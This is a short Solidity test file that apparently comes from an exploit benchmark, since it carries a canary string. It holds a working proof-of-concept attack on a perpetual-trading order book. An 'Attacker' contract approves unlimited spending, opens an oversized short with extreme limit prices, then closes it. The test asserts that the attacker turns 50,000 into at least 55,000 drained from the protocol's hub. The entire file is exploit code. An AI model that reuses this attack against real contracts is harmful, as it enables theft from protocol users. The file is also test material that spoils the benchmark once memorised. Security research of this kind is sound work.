// SPDX-License-Identifier: BSD-3-Clause
pragma solidity 0.8.30;

// assay-canary-09f07437-5525-4eb7-a57e-ba8be1652998
import "../Base.sol";

abstract contract Trader {
    IERC20 internal usd;
    IOrderBook internal orders;
    uint256 internal id;

    function use(IERC20 usd_, IOrderBook orders_) public {
        (usd, orders) = (usd_, orders_);
        usd.approve(address(orders), type(uint256).max);
    }

    function ask(bytes32 market, bool isLong, bool isIncrease, uint256 size, uint256 margin) public {
        uint256 limit = isLong == isIncrease ? type(uint256).max : 0;
        id = orders.place(
            address(this), IOrderBook.Terms(market, isLong, isIncrease, false, size, margin, limit, 1e6, address(0))
        );
    }

    function get() public {
        try orders.execute(id) {} catch {}
    }
}

contract Attacker is Trader {}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        usd.mint(address(other), 50_000e6);
    }

    function exploit() public {
        other.use(usd, orders);
        other.ask(ORE, false, true, 500_000e6, 49_000e6);
        minute();
        other.get();
        other.ask(ORE, false, false, type(uint256).max, 0);
        minute();
        other.get();
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) >= 55_000e6, "no gain");
    }

    function target() public view override returns (address) {
        return address(hub);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
